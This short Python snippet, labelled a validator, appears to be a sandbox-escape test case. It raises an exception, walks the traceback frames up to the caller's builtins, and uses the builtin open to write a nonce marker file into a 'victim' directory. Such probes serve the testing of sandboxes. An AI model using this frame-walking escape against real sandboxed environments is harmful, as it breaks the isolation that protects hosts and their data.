# kind: validator
# tries: From an exception up to the frames of whoever runs this code

try:
    1 / 0
except ZeroDivisionError as error:
    frame = error.__traceback__.tb_frame
    while frame:
        names = frame.f_builtins
        if "open" in names:
            names["open"](VICTIM["dir"] + "/" + VICTIM["nonce"], "w").close()
            break
        frame = frame.f_back
